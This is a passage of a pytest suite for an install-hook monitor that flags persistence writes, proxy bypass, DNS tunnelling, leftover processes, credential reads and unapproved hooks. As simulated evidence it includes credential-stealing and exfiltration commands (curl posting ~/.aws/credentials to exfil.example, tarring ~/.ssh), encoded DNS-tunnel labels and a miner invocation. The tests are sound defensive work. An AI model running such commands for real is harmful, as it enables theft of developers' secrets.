    node.write(f"{PROJECT}/vendor/x/.git/hooks/pre-push.sample")
    real = node.write(f"{PROJECT}/.git/hooks/pre-push")
    assert only(build.judge(), "persistence-write").evidence == (real,)


def test_persistence_write_through_a_rename_and_a_symlink(build: Build) -> None:
    node = build.hook().spawn(["node", "telemetry.js"])
    node.write("/tmp/rc")
    node.write("/tmp/rc", FileOp.RENAME, target=f"{HOME}/.bashrc")
    node.write(f"{HOME}/.zshrc", FileOp.SYMLINK, target="/tmp/rc")
    assert sorted(f.message.rsplit(" ", 1)[1] for f in found(build.judge(), "persistence-write")) == [
        f"{HOME}/.bashrc",
        f"{HOME}/.zshrc",
    ]


def test_persistence_write_ignores_install_output_and_writers_outside_hooks(build: Build) -> None:
    hook = build.hook().spawn(["node", "install.js"])
    hook.write(f"{PROJECT}/node_modules/evil/lib/profile.js")
    hook.write(f"{PROJECT}/node_modules/evil/.bashrc.example")
    hook.write(f"{HOME}/.cache/evil/config.json")
    pip = build.pip_root()
    pip.write("/venv/lib/python3.11/site-packages/distutils-precedence.pth")  # pip installing setuptools
    build.root.write(f"{HOME}/.npmrc")  # npm config set, outside any hook
    assert found(build.judge(), "persistence-write") == []


# -- proxy-bypass ----------------------------------------------------------------------------


def test_proxy_bypass_raw_socket(build: Build) -> None:
    node = build.hook().spawn(["node", "ping.js"])
    seq = node.connect("203.0.113.9", 0, protocol="raw")
    finding = only(build.judge(), "proxy-bypass")
    assert finding.severity is Severity.MEDIUM and finding.evidence == (seq,) and "raw socket" in finding.message
    assert finding.host == "203.0.113.9"


def test_proxy_bypass_raw_datagram_says_what_it_was(build: Build) -> None:
    build.hook().spawn(["node", "ping.js"]).send("203.0.113.9", 0, protocol="raw")
    assert "sent raw packets to 203.0.113.9:0" in only(build.judge(), "proxy-bypass").message


@pytest.mark.parametrize("connected", [False, True], ids=["sendto", "connected socket"])
def test_proxy_bypass_udp_that_is_not_dns(build: Build, connected: bool) -> None:
    node = build.hook().spawn(["nc", "-u", "203.0.113.9", "9999"])
    if connected:
        node.connect("203.0.113.9", 9999, protocol="udp")  # the tracer records the sends that follow
    seq = node.send("203.0.113.9", 9999)
    finding = only(build.judge(), "proxy-bypass")
    assert "sent UDP to 203.0.113.9:9999 (not DNS)" in finding.message and seq in finding.evidence


def test_proxy_bypass_dns_to_another_resolver_is_one_finding(build: Build) -> None:
    node = build.hook().spawn(["node", "resolve.js"])
    node.connect("198.51.100.53", 53, protocol="udp")
    node.send("198.51.100.53", 53)
    node.dns("x.example", server="198.51.100.53")
    finding = only(build.judge(), "proxy-bypass")
    assert "DNS server 198.51.100.53" in finding.message and finding.host == "198.51.100.53"


def test_proxy_bypass_ip_literal_without_a_dns_lookup(build: Build) -> None:
    seq = build.hook().spawn(["curl", "http://159.148.186.228/download/jsextension"]).request("159.148.186.228")
    finding = only(build.judge(), "proxy-bypass")
    assert finding.evidence == (seq,) and "by address, with no DNS lookup" in finding.message


@pytest.mark.parametrize(
    ("kind", "detail"),
    [
        (AnomalyKind.IO_URING, "io_uring_setup: its I/O bypasses syscall tracing"),
        (AnomalyKind.FOREIGN_ABI, "i386 (int 0x80) syscall socketcall"),
    ],
)
def test_proxy_bypass_ways_around_tracing(build: Build, kind: AnomalyKind, detail: str) -> None:
    seq = build.hook().spawn(["node", "install.js"]).anomaly(kind, detail)
    finding = only(build.judge(), "proxy-bypass")
    assert finding.evidence == (seq,) and str(kind) in finding.message


def test_proxy_bypass_direct_tcp_in_env_mode(tmp_path: Path) -> None:
    build = Build(tmp_path, net_mode="env")
    node = build.hook().spawn(["node", "install.js"])
    seq = node.connect("203.0.113.10", 443)
    node.connect("127.0.0.1", 8080)  # the proxy itself, on loopback
    node.connect("::ffff:127.0.0.1", 3000)
    finding = only(build.judge(), "proxy-bypass")
    assert finding.evidence == (seq,) and "without the proxy" in finding.message


@pytest.mark.parametrize("net_mode", ["redirect", "sandbox", "off"])
def test_proxy_bypass_ignores_tcp_the_mode_accounts_for(tmp_path: Path, net_mode: str) -> None:
    build = Build(tmp_path, net_mode=net_mode)
    node = build.hook().spawn(["node", "install.js"])
    node.connect("203.0.113.10", 443, via="proxy" if net_mode == "redirect" else "direct")
    assert found(build.judge(), "proxy-bypass") == []


def test_proxy_bypass_ignores_loopback_getaddrinfo_probes_the_resolver_and_resolved_addresses(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    node.connect("203.0.113.10", 0, protocol="udp")  # getaddrinfo's RFC 6724 probe: connect, never send
    node.connect("2001:db8::10", 443, protocol="udp")
    node.connect(RESOLVER, 53, protocol="udp")
    node.send(RESOLVER, 53)
    node.dns("registry.example.internal")
    node.send("127.0.0.1", 8125)  # a local statsd
    node.connect("127.0.0.53", 53, protocol="udp")  # systemd-resolved's stub
    build.add(
        DnsAnswer(
            pid=node.pid,
            name="files.example.internal",
            qtype="A",
            rcode="NOERROR",
            answers=["203.0.113.44"],
            server=RESOLVER,
        )
    )
    node.request("203.0.113.44")  # an address a name resolved to: the lookup was seen
    node.request("files.example.internal", server_address="203.0.113.44", sni="files.example.internal")
    assert found(build.judge(), "proxy-bypass") == []


def test_proxy_bypass_reports_each_target_once_per_hook(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    for _ in range(5):
        node.send("203.0.113.9", 9999)
    assert len(only(build.judge(), "proxy-bypass").evidence) == 1


# -- dns-tunnel ------------------------------------------------------------------------------


def _b32(data: bytes) -> str:
    import base64

    return base64.b32encode(data).decode().rstrip("=").lower()


@pytest.mark.parametrize(
    "labels",
    [
        [bytes(range(i, i + 12)).hex() for i in range(0, 60, 12)],  # dnscat2-style hex
        [_b32(b"AWS_SECRET_ACCESS_KEY=" + bytes([i])) for i in range(4)],  # iodine-style base32
        ["x7Kq9Zp2Lm4Nv8Rt6Yw3Bc5D", "Hj2Kl9Mn4Pq7Rs1Tu6Vw3Xy8Z", "a9B8c7D-6e5F4g3H2i1J0kLmN"],  # base64url
        ["-".join(_b32(bytes(range(i, 250, 10)))[j : j + 8] for j in range(0, 40, 8)) for i in range(3)],  # cut up
    ],
    ids=["hex", "base32", "base64", "chunked"],
)
def test_dns_tunnel_encoded_labels_under_one_zone(build: Build, labels: list[str]) -> None:
    node = build.hook().spawn(["node", "install.js"])
    seqs = [node.dns(f"{label}.{index}.h4ck.example") for index, label in enumerate(labels)]
    finding = only(build.judge(), "dns-tunnel")
    assert finding.severity is Severity.HIGH and finding.host == "h4ck.example"
    assert finding.evidence == tuple(seqs) and finding.package == "evil@1.0.0"


def test_dns_tunnel_one_very_long_name(build: Build) -> None:
    name = ".".join(["c2VjcmV0LXRva2VuLXZhbHVl"] * 4 + ["a" * 20, "exfil.example"])
    assert len(name) >= 100
    build.hook().spawn(["node", "install.js"]).dns(name)
    assert only(build.judge(), "dns-tunnel").host == "exfil.example"


def test_dns_tunnel_is_excepted_by_its_zone(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    for index in range(3):
        node.dns(f"{bytes(range(index, index + 16)).hex()}.spans.tracing-vendor.example")
    policy = "version: 1\nexceptions: [{rule: dns-tunnel, host: tracing-vendor.example, reason: span ids}]\n"
    assert only(build.judge(policy), "dns-tunnel").excepted == "span ids (policy.yml:2)"


def test_dns_tunnel_needs_several_names(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    for label in ("0123456789abcdef0123", "fedcba9876543210fedc"):
        node.dns(f"{label}.h4ck.example")
    assert found(build.judge(), "dns-tunnel") == []


def test_dns_tunnel_ignores_ordinary_cdn_and_cloud_names(build: Build) -> None:
    names = [
        # per-distribution and per-edge CDN names
        "d3c33hcgiwev3.cloudfront.net",
        "d2lzkl7pfhq30w.cloudfront.net",
        "dualstack.j.sni.global.fastly.net",
        "e12345.dsce9.akamaiedge.net",
        "r3---sn-ab5l6nzr.gvt1.com",
        "r4---sn-4g5e6nsz.gvt1.com",
        "r5---sn-5hne6nzd.gvt1.com",
        # storage buckets and accounts, named by people
        "my-company-build-artifacts-prod.s3.us-east-1.amazonaws.com",
        "terraform-state-production-eu.s3.amazonaws.com",
        "company-ci-cache-bucket-useast1.s3.amazonaws.com",
        "internal-k8s-default-ingress-abcdef1234-567890123.us-east-1.elb.amazonaws.com",
        "productionresultssa5.blob.core.windows.net",
        "productionresultssa12.blob.core.windows.net",
        "mycompanyartifactsstorage.blob.core.windows.net",
        "kubernetes-release-mirror.storage.googleapis.com",
        "static-production-website-assets.storage.googleapis.com",
        "pipelinesghubeus6.actions.githubusercontent.com",
        "pipelinesghubeus21.actions.githubusercontent.com",
        # services named by people, with a project's random token in them
        "hello-2ldgwxzwxa-uc.a.run.app",
        "api-2ldgwxzwxa-uc.a.run.app",
        "worker-x4bq7nrs2a-ue.a.run.app",
        "app-name-5f7d8b9c6-x2k4p.apps.example.internal",
        "ip-10-0-1-23.ec2.internal",
        "ip-10-0-1-24.ec2.internal",
        "ip-10-0-1-25.ec2.internal",
    ]
    node = build.hook().spawn(["node", "install.js"])
    for name in names:
        node.dns(name)
    assert [f.message for f in found(build.judge(), "dns-tunnel")] == []


# -- leftover-process ------------------------------------------------------------------------


def test_leftover_process_low_outside_hooks_high_inside(build: Build) -> None:
    """A hook has no reason to leave a process running: high, so block mode fails at exit."""
    daemon = build.root.spawn(["java", "-jar", "gradle-daemon.jar"])
    miner = build.hook().spawn(["/tmp/jsextension", "-o", "pool.example:443"], path="/tmp/jsextension")
    outside = build.add(Leftover(pid=daemon.pid, argv=["java", "-jar", "gradle-daemon.jar"], action="left-running"))
    inside = build.add(Leftover(pid=miner.pid, argv=["/tmp/jsextension", "-o", "pool.example:443"], action="killed"))
    by_seq = {f.evidence: f for f in found(build.judge(), "leftover-process")}
    assert by_seq[(outside,)].severity is Severity.LOW and by_seq[(outside,)].package is None
    assert by_seq[(inside,)].severity is Severity.HIGH and by_seq[(inside,)].package == "evil@1.0.0"
    assert "(killed)" in by_seq[(inside,)].message
    raised = found(build.judge("version: 1\nrules: {leftover-process: high}\n"), "leftover-process")
    assert {f.severity for f in raised} == {Severity.HIGH}
    assert found(build.judge("version: 1\nrules: {leftover-process: 'off'}\n"), "leftover-process") == []


# -- credential-read -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "how"),
    [
        (f"{HOME}/.npmrc", "open"),
        (f"{HOME}/.ssh/id_ed25519", "open"),
        (f"{HOME}/.aws/credentials", "open"),
        (f"{HOME}/.config/gh/hosts.yml", "open"),
        (f"{HOME}/.docker/config.json", "open"),
        ("/proc/4242/environ", "open"),
        ("/proc/4242/mem", "process_vm_readv"),
    ],
)
def test_credential_read_of_files_and_memory(build: Build, path: str, how: str) -> None:
    node = build.hook().spawn(["node", "bundle.js"])
    seq = node.read(path, how)
    finding = only(build.judge(), "credential-read")
    assert finding.severity is Severity.HIGH and finding.evidence == (seq,) and path in finding.message


def test_credential_read_ptrace(build: Build) -> None:
    seq = build.hook().spawn(["python3", "memdump.py"]).anomaly(AnomalyKind.PTRACE, "ptrace(request=16, pid=812)")
    finding = only(build.judge(), "credential-read")
    assert finding.evidence == (seq,) and "ptrace" in finding.message


@pytest.mark.parametrize(
    "argv",
    [
        ["gh", "auth", "token"],
        ["gh", "auth", "status", "--show-token"],
        ["trufflehog", "filesystem", "/", "--json"],
        ["/tmp/trufflehog", "github", "--org", "x"],
        ["gitleaks", "detect", "--source", "."],
        ["git", "credential", "fill"],
        ["aws", "configure", "export-credentials"],
        ["cat", f"{HOME}/.npmrc"],
        ["tar", "czf", "-", f"{HOME}/.ssh"],
        ["curl", "-d", f"@{HOME}/.aws/credentials", "https://exfil.example/"],
        ["node", "steal.js", f"--config={HOME}/.npmrc"],
    ],
    ids=lambda argv: " ".join(argv[:2]),
)
def test_credential_read_by_command(build: Build, argv: list[str]) -> None:
    process = build.hook().spawn(argv)
    assert only(build.judge(), "credential-read").evidence == (process.seq,)


def test_credential_read_once_per_path_and_hook(build: Build) -> None:
    node = build.hook().spawn(["node", "bundle.js"])
    node.read(f"{HOME}/.npmrc")
    node.read(f"{HOME}/.npmrc")
    node.spawn(["cat", f"{HOME}/.npmrc"])
    assert len(found(build.judge(), "credential-read")) == 1


def test_credential_read_ignores_own_proc_files_the_build_outside_hooks_and_package_managers_own_config(
    build: Build,
) -> None:
    node = build.hook().spawn(["node", "install.js"])
    node.read(f"/proc/{node.pid}/environ")
    node.read("/proc/self/maps")
    node.read(f"{PROJECT}/node_modules/evil/package.json")
    build.root.read(f"{HOME}/.npmrc")  # npm reads its own configuration
    build.root.spawn(["gh", "auth", "token"])  # the build's own script, not a hook
    # the project's prepare runs `npm run build`: that npm reads its configuration too
    prepare = build.hook("app", "1.0.0", "prepare", "npm run build", cwd=PROJECT)
    nested = prepare.spawn(["node", NPM_CLI, "run", "build"])
    nested.read(f"{HOME}/.npmrc")
    pip = build.hook().spawn(["/venv/bin/python", "-m", "pip", "download", "x"])
    pip.read(f"{HOME}/.netrc")
    assert [f.message for f in found(build.judge(), "credential-read")] == []


def test_credential_read_still_reports_a_package_manager_asked_for_a_token(build: Build) -> None:
    hook = build.hook()
    npm = hook.spawn(["node", NPM_CLI, "config", "get", "//registry.example.internal/:_authToken"])
    seq = npm.read(f"{HOME}/.npmrc")
    other = build.hook("other").spawn(["node", NPM_CLI, "run", "x"])
    key = other.read(f"{HOME}/.ssh/id_rsa")  # not npm's own configuration
    assert [f.evidence for f in found(build.judge(), "credential-read")] == [(seq,), (key,)]


# -- unapproved-hook -------------------------------------------------------------------------

HOOKS_POLICY = """
    version: 1
    hooks:
      allowed: [esbuild, "@swc/core@^1.3", "pip:cryptography@>=41,<44"]
"""


def test_unapproved_hook(build: Build) -> None:
    evil = build.hook("evil", "6.6.6", "preinstall")
    build.hook("evil", "6.6.6", "preinstall")  # installed twice (two workspaces): one finding
    build.hook("esbuild", "0.19.2")
    build.hook("@swc/core", "1.3.100", cwd=f"{PROJECT}/node_modules/@swc/core")
    swc2 = build.hook("@swc/core", "2.0.0", cwd=f"{PROJECT}/node_modules/@swc/core")
    pip = build.pip_root()
    build.pip_hook(pip, "cryptography", "42.0.5")
    newer = build.pip_hook(pip, "cryptography", "44.0.0")
    findings = found(build.judge(HOOKS_POLICY), "unapproved-hook")
    assert [(f.package, f.evidence) for f in findings] == [
        ("evil@6.6.6", (evil.seq,)),
        ("@swc/core@2.0.0", (swc2.seq,)),
        ("cryptography@44.0.0", (newer.seq,)),
    ]
    assert findings[0].severity is Severity.MEDIUM and findings[0].hook == "preinstall"
    assert findings[2].ecosystem == "pip" and findings[2].hook == "build_wheel"


def test_unapproved_hook_quiet_without_an_allowed_list(build: Build) -> None:
    build.hook("evil", "6.6.6")
    assert found(build.judge(), "unapproved-hook") == []


def test_unapproved_hook_ignores_the_projects_own_scripts(build: Build) -> None:
    build.hook("app", "1.0.0", "prepare", "husky install", cwd=PROJECT)
    build.hook("@app/lib", "1.0.0", "prepare", "tsc -b", cwd=f"{PROJECT}/packages/lib")  # a workspace
    build.hook("app", "1.0.0", "build", "vite build", cwd=PROJECT)  # npm run build
    assert found(build.judge("version: 1\nhooks: {allowed: []}\n"), "unapproved-hook") == []


@pytest.mark.parametrize(
    "cwd",
    [
        f"{PROJECT}/node_modules/evil",
        f"{PROJECT}/node_modules/.pnpm/evil@1.0.0/node_modules/evil",
        f"{PROJECT}/.yarn/unplugged/evil-npm-1.0.0-0123456789/node_modules/evil",
        f"{PROJECT}/packages/lib/node_modules/evil",
        "/tmp/npm-global/lib/node_modules/evil",
    ],
)
def test_unapproved_hook_of_a_dependency_wherever_it_is_installed(build: Build, cwd: str) -> None:
    build.hook("evil", "1.0.0", cwd=cwd)
    assert only(build.judge("version: 1\nhooks: {allowed: []}\n"), "unapproved-hook").package == "evil@1.0.0"


def test_unapproved_hook_imports_what_the_project_allows(build: Build) -> None:
    build.add(HooksAllowed(packages=["evil@^1"], source="package.json allowScripts"))
    build.hook("evil", "1.2.0")
    assert found(build.judge("version: 1\nhooks: {allowed: []}\n"), "unapproved-hook") == []
    refused = found(build.judge("version: 1\nhooks: {allowed: [], import: none}\n"), "unapproved-hook")
    assert [f.package for f in refused] == ["evil@1.2.0"]


# -- exceptions, severities, fail-on ---------------------------------------------------------


def test_exception_by_package_and_version_range(build: Build) -> None:
    build.hook("esbuild", "0.19.2").spawn(["curl", "-fsSLO", "https://files.example.internal/esbuild.tgz"])
    build.hook("esbuild", "0.20.0").spawn(["curl", "-fsSLO", "https://files.example.internal/esbuild.tgz"])
    policy = """
        version: 1
        exceptions:
          - rule: hook-network-tool
            package: esbuild@^0.19
            reason: fetches its platform binary from our mirror
    """
    verdict = build.judge(policy)
    covered, counted = found(verdict, "hook-network-tool")
    assert covered.package == "esbuild@0.19.2"
    assert covered.excepted == "fetches its platform binary from our mirror (policy.yml:4)"
    assert counted.package == "esbuild@0.20.0" and counted.excepted is None
    assert verdict.counted == [counted] and verdict.counts == {"hook-network-tool": 1}
    assert verdict.to_json()["findings"][0]["excepted"] == covered.excepted


def test_exception_by_host_pattern(build: Build) -> None:
    node = build.hook().spawn(["node", "report.js"])
    node.request("results.telemetry.example.internal")
    node.request("exfil.example")
    node.send("203.0.113.123", 123)  # an NTP client
    policy = """
        version: 1
        exceptions:
          - rule: unfamiliar-egress
            host: "*.telemetry.example.internal"
            reason: the test reporter, owned by the platform team
          - rule: proxy-bypass
            host: 203.0.113.0/24
            reason: the time servers
    """
    verdict = build.judge(policy)
    assert [(f.rule, f.host) for f in verdict.counted] == [
        ("unfamiliar-egress", "exfil.example"),
        ("unfamiliar-egress", "203.0.113.123"),
    ]
    assert {f.host for f in verdict.findings if f.excepted} == {"results.telemetry.example.internal", "203.0.113.123"}


def test_exception_for_another_rule_covers_nothing(build: Build) -> None:
    build.hook("esbuild", "0.19.2").spawn(["curl", "-fsSLO", "https://files.example.internal/esbuild.tgz"])
    policy = """
        version: 1
        exceptions:
          - {rule: unfamiliar-egress, package: esbuild, reason: downloads its binary}
    """
    assert only(build.judge(policy), "hook-network-tool").excepted is None


def test_expired_exception_no_longer_applies_and_is_listed(build: Build) -> None:
    build.hook("esbuild", "0.19.2").spawn(["curl", "-fsSLO", "https://files.example.internal/esbuild.tgz"])
    policy = """
        version: 1
        fail-on: medium
        exceptions:
          - rule: hook-network-tool
            package: esbuild
            reason: fetches its platform binary
            expires: 2026-02-28
    """
    on_the_day = build.judge(policy, today=datetime.date(2026, 2, 28))
    assert on_the_day.verdict is VerdictKind.PASS and on_the_day.expired_exceptions == ()
    after = build.judge(policy, today=datetime.date(2026, 3, 1))
    assert after.verdict is VerdictKind.FAIL and only(after, "hook-network-tool").excepted is None
    assert [(e.rule, str(e.expires)) for e in after.expired_exceptions] == [("hook-network-tool", "2026-02-28")]
    assert after.to_json()["expired_exceptions"][0]["source"] == "policy.yml:5"


def test_severity_overrides_and_off(build: Build) -> None:
    build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"])
    assert only(build.judge(), "hook-network-tool").severity is Severity.MEDIUM
    raised = build.judge("version: 1\nrules: {hook-network-tool: critical}\n")
    assert only(raised, "hook-network-tool").severity is Severity.CRITICAL
    assert found(build.judge("version: 1\nrules: {hook-network-tool: off}\n"), "hook-network-tool") == []


@pytest.mark.parametrize(
    ("fail_on", "verdict"),
    [
        ("low", VerdictKind.FAIL),
        ("medium", VerdictKind.FAIL),
        ("high", VerdictKind.WARN),
        ("critical", VerdictKind.WARN),
    ],
)
def test_fail_on_threshold(build: Build, fail_on: str, verdict: VerdictKind) -> None:
    build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"])  # one medium finding
    judged = build.judge(f"version: 1\nfail-on: {fail_on}\n")
    assert judged.verdict is verdict and judged.fail_on is Severity.parse(fail_on)


def test_a_fully_excepted_run_passes(build: Build) -> None:
    build.hook("esbuild", "0.19.2").spawn(["curl", "-fsSLO", "https://files.example.internal/esbuild.tgz"])
    policy = "version: 1\nexceptions: [{rule: hook-network-tool, package: esbuild, reason: its binary}]\n"
    verdict = build.judge(policy)
    assert verdict.verdict is VerdictKind.PASS and len(verdict.findings) == 1 and verdict.counts == {}


def test_check_replays_the_same_verdict_from_the_stored_record(build: Build) -> None:
    build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"]).request("exfil.example")
    first = build.judge()
    again = evaluate(read_record(build.path), default_policy(known_rules=RULE_CATALOGUE), today=TODAY)
    assert again == first and first.verdict is VerdictKind.FAIL
